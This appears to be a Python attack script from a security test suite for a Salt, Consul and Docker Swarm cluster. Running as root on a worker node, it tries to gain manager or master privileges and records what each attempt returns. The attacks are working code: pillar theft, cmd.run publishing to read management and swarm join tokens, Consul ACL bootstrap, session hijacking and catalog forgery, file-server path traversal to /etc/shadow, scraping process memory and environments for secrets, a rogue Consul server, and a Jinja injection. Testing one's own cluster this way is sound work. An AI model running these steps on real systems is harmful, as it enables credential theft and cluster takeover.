"""Runs on a worker as root, with Salt's Python: try to get what only managers or the master may have.

    attack.py OTHER_NODE MASTER_ADDRESS OUTPUT JOB_ID...

Every attempt writes one JSON line to OUTPUT: {"attempt": name, "gave": everything that came back,
"broken": why the attempt did not work at all}. What was obtained is judged elsewhere, by value; this program knows no
secret. The job IDs are those of others' applies. Nothing is destroyed that an apply does not repair.
"""

import asyncio
import base64
import contextlib
import glob
import json
import os
import re
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import probe
import salt.channel.client
import salt.config

OTHER, MASTER, OUTPUT, *JIDS = sys.argv[1:]
LIMIT = 4 << 20
ATTEMPTS = []


def attempt(function):
    """Register an attempt; its docstring's first line is its name."""
    ATTEMPTS.append(function)
    return function


def call(*words, bound=60):
    """What a salt-call prints."""
    try:
        # What the worker's own pillar holds would go into the master's job cache, where I2 looks for it.
        argv = ["salt-call", "--no-return-event", "--out=json", "--no-color", *words]
        done = subprocess.run(argv, capture_output=True, text=True, timeout=bound, check=False)
    except subprocess.TimeoutExpired as error:
        return f"time-out; {error.stdout}"
    return done.stdout + done.stderr


def consul(*requests):
    """What the agent answers with the worker's own token; values of keys in clear as well."""
    found = []
    for request in requests:
        answer = probe.ask("consul", *request)
        found.append(answer)
        if answer[0] == 200 and isinstance(answer[1], list):
            values = [one.get("Value") for one in answer[1] if isinstance(one, dict)]
            found += [base64.b64decode(value).decode(errors="replace") for value in values if value]
    return found


def pillar_for(load):
    """The pillar that the master gives for a raw request: nothing is masked in it."""
    opts = salt.config.minion_config("/etc/salt/minion")
    opts["master_uri"] = f"tcp://{MASTER}:4506"

    async def ask():
        channel = salt.channel.client.AsyncReqChannel.factory(opts)
        try:
            return await asyncio.wait_for(channel.crypted_transfer_decode_dictentry(load, dictkey="pillar"), 30)
        finally:
            channel.close()

    try:
        return json.dumps(asyncio.run(ask()))
    except Exception as error:  # noqa: BLE001 - whatever it is, it is what the attempt gave
        return f"{type(error).__name__}: {error}"


def asked(load, crypt="aes"):
    """What the master answers to a raw request over the minion's own channel, encrypted or clear."""

    try:
        opts = salt.config.minion_config("/etc/salt/minion")
        opts["master_uri"] = f"tcp://{MASTER}:4506"
        with salt.channel.client.ReqChannel.factory(opts, crypt=crypt) as channel:
            return repr(channel.send(load, tries=1, timeout=10))
    except Exception as error:  # noqa: BLE001 - whatever it is, it is what the attempt gave
        return f"{type(error).__name__}: {error}"


@attempt
def mine():
    """mine.get of everything of every node"""
    names = ["*", "network.ip_addrs", "swarm.cluster", "pillar.items", "swarm.token", "cmd.run", "grains.items"]
    load = {"cmd": "_mine_get", "id": "rpiomega-4", "tgt": "*", "tgt_type": "glob"}
    return [call("mine.get", "*", name) for name in names[:3]] + [asked({**load, "fun": name}) for name in names]


@attempt
def pillar_of_others():
    """pillar: own, with an overridden site, with another environment, of another node"""
    site = {"rpiomega": {"nodes": {"rpiomega-4": {"address": "192.0.2.1", "roles": ["master", "manager"]}}}}
    base = {"cmd": "_pillar", "ver": "2", "saltenv": "base", "pillarenv": None, "grains": {"roles": ["master"]}}
    own = {**base, "id": "rpiomega-4"}
    return [
        call("pillar.raw"),
        call("pillar.items", f"pillar={json.dumps(site)}"),
        call("pillar.items", "pillarenv=base", "saltenv=base"),
        pillar_for(own),
        pillar_for({**own, "pillar_override": site}),
        pillar_for({**own, "extra_minion_data": site}),
        pillar_for({**own, "ext": {"rpiomega": {"secrets": "/etc/rpiomega/secrets"}}}),
        pillar_for({**own, "ext": {"cmd_json": "cat /etc/rpiomega/secrets/consul/management.token"}}),
        pillar_for({**base, "id": OTHER}),
        pillar_for({**base, "id": "rpiomega-master"}),
        call(f"--id={OTHER}", "pillar.raw", bound=30),
    ]


@attempt
def publish():
    """publish to other minions"""
    command = "cat /etc/rpiomega/secrets/consul/management.token; docker swarm join-token -q manager"
    return [
        call("publish.publish", "*", "cmd.run", command),
        call("publish.full_data", "*", "pillar.raw"),
        asked({"cmd": "minion_pub", "id": "rpiomega-4", "tgt": "*", "fun": "cmd.run", "arg": [command], "ret": ""}),
        asked({"cmd": "minion_publish", "id": "rpiomega-4", "tgt": "*", "fun": "cmd.run", "arg": [command], "ret": ""}),
    ]


@attempt
def peer_runner():
    """runners and wheels of the master"""
    found = [call("publish.runner", name) for name in ("manage.up", "pillar.show_pillar", "salt.cmd")]
    load = {"cmd": "minion_runner", "id": "rpiomega-4", "fun": "pillar.show_pillar", "arg": ["rpiomega-master"]}
    for kind in ("runner", "wheel"):
        for name in ("pillar.show_pillar", "config.values", "key.list_all", "jobs.list_jobs"):
            found.append(asked({"cmd": kind, "fun": name, "kwarg": {}}, crypt="clear"))
    return [*found, asked(load)]


@attempt
def consul_keys():
    """Consul: every key, the ACL system, the agent's own view"""
    return consul(
        ["GET", "/v1/kv/?recurse"],
        ["GET", "/v1/kv/rpiomega/?recurse"],
        ["GET", "/v1/acl/tokens"],
        ["GET", "/v1/acl/policies"],
        ["GET", "/v1/acl/token/self"],
        ["PUT", "/v1/acl/bootstrap"],
        ["PUT", "/v1/acl/token", {"Policies": [{"Name": "global-management"}]}],
        ["PUT", "/v1/acl/login", {"AuthMethod": "minikube", "BearerToken": "x"}],
        ["GET", "/v1/agent/self"],
        ["GET", "/v1/agent/metrics"],
        ["GET", "/v1/operator/keyring"],
        ["GET", "/v1/operator/raft/configuration"],
        ["PUT", "/v1/txn", [{"KV": {"Verb": "get-tree", "Key": ""}}]],
        ["PUT", "/v1/event/fire/x", "x"],
        ["GET", "/v1/kv/?recurse", None, "none"],
        ["GET", "/v1/acl/tokens", None, "none"],
        ["GET", "/v1/acl/tokens", None, "anonymous"],
    )


@attempt
def consul_snapshot():
    """Consul: a snapshot of everything"""
    requests = (["GET", "/v1/snapshot"], ["GET", "/v1/snapshot?stale"], ["PUT", "/v1/snapshot", "x"])
    return [heard(request) for request in requests]


def heard(request):
    """What a request for a snapshot gives; a server's refusal may be lost with the connection that it closes."""
    for _ in range(20):
        found = consul(request)
        if "reset by peer" not in repr(found):
            break
    return found


@attempt
def jobs():
    """jobs of others: listen to all that the master publishes, ask for their returns"""
    found = [call("saltutil.find_cached_job", jid) for jid in JIDS]
    found += [asked({"cmd": "pub_ret", "id": "rpiomega-4", "jid": jid}) for jid in JIDS]
    return [*found, call("saltutil.running"), sniff(20)]


def sniff(seconds):
    """All that the master publishes within some seconds, decrypted with the key that every minion has."""

    async def listen():
        opts = salt.config.minion_config("/etc/salt/minion")
        opts["master_ip"], opts["master_uri"] = MASTER, f"tcp://{MASTER}:4506"
        seen = []
        channel = salt.channel.client.AsyncPubChannel.factory(opts, io_loop=None)

        async def take(payload):
            seen.append(payload)

        await channel.connect()
        channel.on_recv(take)
        await asyncio.sleep(seconds)
        return seen

    return repr(asyncio.run(asyncio.wait_for(listen(), seconds + 20)))


@attempt
def spoofed_grains():
    """grains that claim to be a manager and the master"""
    found = [call("grains.setvals", '{"role": "manager", "roles": ["master", "manager"], "rpiomega_role": "manager"}')]
    found += [call("saltutil.refresh_grains"), call("saltutil.refresh_pillar"), call("pillar.raw")]
    found += [call("state.apply", "swarm", bound=120), call("mine.get", "*", "pillar.items")]
    found += [call("grains.delkey", name, "force=True") for name in ("role", "roles", "rpiomega_role")]
    return found


@attempt
def stolen_session():
    """Consul: sessions of others used to take, release or end their locks"""
    listed = probe.ask("consul", "GET", "/v1/session/list")
    ids = [one["ID"] for one in listed[1]] if listed[0] == 200 else []
    found = [listed]
    for one in ids:
        found += consul(
            ["PUT", f"/v1/kv/rpiomega/swarm/lock?acquire={one}", "mine"],
            ["PUT", f"/v1/kv/rpiomega/swarm/lock?release={one}", "mine"],
            ["PUT", f"/v1/kv/rpiomega/swarm/faults/lock?release={one}", "mine"],
            ["PUT", f"/v1/session/renew/{one}"],
            ["PUT", f"/v1/session/destroy/{one}"],
        )
    own = probe.ask("consul", "PUT", "/v1/session/create", {"TTL": "10s"})
    if own[0] == 200:
        found += consul(["PUT", f"/v1/kv/rpiomega/swarm/lock?acquire={own[1]['ID']}", "mine"])
    return found


@attempt
def keys_of_others():
    """Consul: write the record, the lock, the worker token, another node's entry"""
    forged = {"node_id": "x", "cluster_id": "x", "address": "192.0.2.1", "role_now": "worker", "previous": []}
    found = []
    for key in ("record", "lock", "worker-token", f"nodes/{OTHER}", "nodes/unknown", "unknown"):
        path = f"/v1/kv/rpiomega/swarm/{key}"
        found += consul(["PUT", path, forged], ["DELETE", path])
        found += consul(["PUT", "/v1/txn", [{"KV": {"Verb": "set", "Key": path[7:], "Value": "eA=="}}]])
    return found


@attempt
def catalog_of_others():
    """Consul: register health and services in the name of another node"""
    check = {"CheckID": "serfHealth", "Name": "x", "Status": "critical"}
    forged = {"Node": OTHER, "Address": "192.0.2.1", "SkipNodeUpdate": True, "Check": {**check, "ServiceID": "docker"}}
    return consul(
        ["PUT", "/v1/catalog/register", {"Node": OTHER, "Address": "192.0.2.1", "Check": check}],
        ["PUT", "/v1/catalog/register", forged],
        ["PUT", "/v1/catalog/register", {**forged, "Service": {"Service": "docker", "ID": "docker"}}],
        ["PUT", "/v1/catalog/deregister", {"Node": OTHER}],
        ["PUT", "/v1/agent/force-leave/" + OTHER],
        ["PUT", "/v1/agent/service/register", {"Name": "consul", "ID": "consul"}],
    )


@attempt
def file_server():
    """the master's file server: everything it lists, and paths outside of it"""
    listed = call("cp.list_master", bound=120)
    found = [listed, call("cp.list_states"), call("cp.envs")]
    try:
        names = json.loads(listed)["local"]
    except (ValueError, KeyError):
        names = []
    telling = [name for name in names if re.search(r"secret|pillar|token|key|site\.sls|\.pem", name)]
    found += [call("cp.get_file_str", f"salt://{name}", bound=30) for name in telling[:20]]
    for path in ("../../../etc/rpiomega/secrets/consul/management.token", "../pillar/site.sls", "/etc/shadow"):
        found.append(call("cp.get_file_str", f"salt://{path}", bound=30))
        load = {"cmd": "_serve_file", "path": path, "saltenv": "base", "loc": 0, "id": "rpiomega-4", "gzip": 0}
        found.append(asked(load))
    for env in ("base", "../../etc", "/etc/rpiomega", "pillar", "__env__"):
        load = {"cmd": "_file_list", "saltenv": env, "id": "rpiomega-4", "prefix": ""}
        found.append(asked(load))
    return found


@attempt
def push_a_file():
    """cp.push of a file onto the master"""
    return [call("cp.push", "/etc/hostname"), call("cp.push_dir", "/etc/salt")]


@attempt
def master_internals():
    """the master's own configuration and keys"""
    loads = [{"cmd": name, "id": "rpiomega-4"} for name in ("_master_opts", "_master_tops", "_file_envs")]
    loads += [{"cmd": "_return", "id": OTHER, "jid": "20260101000000000001", "fun": "test.ping", "return": True}]
    clear = [{"cmd": "get_token", "token": "x"}, {"cmd": "publish", "fun": "cmd.run", "tgt": "*", "arg": ["id"]}]
    return [asked(load) for load in loads] + [asked(load, crypt="clear") for load in clear]


@attempt
def engine():
    """the engine: manager calls, its swarm folder, a demand for promotion"""
    requests = [["GET", path] for path in ("/swarm", "/swarm/unlockkey", "/nodes", "/secrets", "/configs", "/tasks")]
    requests += [["POST", "/nodes/self/update?version=1", {"Role": "manager"}]]
    found = [probe.ask("docker", *request) for request in requests]
    script = "docker swarm join-token -q manager; docker node promote self; docker swarm ca; find /var/lib/docker/swarm"
    done = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=60, check=False)
    return [*found, done.stdout + done.stderr]


@attempt
def memory():
    """the memory of every process on this node: engine, Consul agent, Salt minion"""
    found = []
    uuid = rb"[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}"
    pattern = re.compile(rb"SWMTKN-1-[0-9a-z-]{60,90}|SWMKEY-1-[0-9A-Za-z+/]{40,}|" + uuid)
    for pid in filter(str.isdigit, os.listdir("/proc")):
        hits = set()
        with contextlib.suppress(OSError), open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                span, rights = line.split()[:2]
                start, end = (int(part, 16) for part in span.split("-"))
                if not rights.startswith("rw") or end - start > 512 << 20:
                    continue
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    mem.seek(start)
                    hits |= set(pattern.findall(mem.read(end - start)))
        found += [hit.decode() for hit in hits]
    return sorted(set(found))


@attempt
def rogue_server():
    """Consul: a second agent that claims to be a server, with the gossip key and certificate that the worker has"""
    top = "/tmp/rogue"
    script = f"""
rm -rf {top}; mkdir -p {top}/etc {top}/data; cp -r /etc/rpiomega/consul/* {top}/etc/
python3 - <<'PY'
import json
path = "{top}/etc/consul.json"
config = json.load(open(path))
config.update(server=True, node_name="rogue", data_dir="/data", leave_on_terminate=True)
config["ports"] = {{"http": 8501, "dns": -1, "serf_lan": 8401, "server": 8400, "serf_wan": -1}}
config["retry_join"] = ["{MASTER}:8301"]
json.dump(config, open(path, "w"))
PY
image=$(docker inspect -f '{{{{.Image}}}}' rpiomega-consul)
docker run -d --name rogue --network host --user 0 -v {top}/etc:/etc/consul:ro -v {top}/data:/data \
  --entrypoint consul $image agent -config-dir=/etc/consul
"""
    subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=60, check=False)
    time.sleep(30)
    paths = ("/v1/kv/?recurse&stale", "/v1/acl/tokens?stale", "/v1/snapshot?stale", "/v1/operator/raft/configuration")
    found = [probe.ask("consul", "GET", path, None, "agent", 8501) for path in paths]
    for folder, _, files in os.walk(f"{top}/data"):
        for name in files:
            with contextlib.suppress(OSError), open(os.path.join(folder, name), "rb") as file:
                found.append(file.read(LIMIT).decode(errors="replace"))
    done = subprocess.run(["docker", "logs", "rogue"], capture_output=True, text=True, timeout=60, check=False)
    subprocess.run(
        ["bash", "-c", f"docker stop rogue; docker rm rogue; rm -rf {top}"], capture_output=True, check=False
    )
    return [*found, (done.stdout + done.stderr)[-20000:]]


@attempt
def environments():
    """environment and arguments of every process"""
    found = []
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        with contextlib.suppress(OSError), open(path, "rb") as file:
            found.append(file.read().decode(errors="replace"))
    return found


@attempt
def forged_events():
    """events that claim other nodes have joined"""
    found = []
    for name in ("rpiomega-4", OTHER, "stranger", "*", "{{ salt['cmd.run']('id') }}"):
        found.append(call("event.send", "rpiomega/swarm/joined", json.dumps({"node": name})))
    load = {"cmd": "_minion_event", "id": OTHER, "tag": "rpiomega/swarm/joined", "data": {"node": "rpiomega-4"}}
    return [*found, asked(load), call("event.fire_master", '{"node": "rpiomega-4"}', "salt/auth")]


def main():
    """Run all attempts."""
    with open(OUTPUT, "w", encoding="utf-8") as output:
        for function in ATTEMPTS:
            gave, broken = "", ""
            try:
                gave = json.dumps(function(), default=repr)
            except Exception as error:  # noqa: BLE001 - it gave nothing, and proves nothing
                broken = f"{type(error).__name__}: {error}"
            name = f"{function.__name__}: {function.__doc__.splitlines()[0]}"
            output.write(json.dumps({"attempt": name, "gave": gave[:LIMIT], "broken": broken}) + "\n")
            output.flush()


if __name__ == "__main__":
    main()
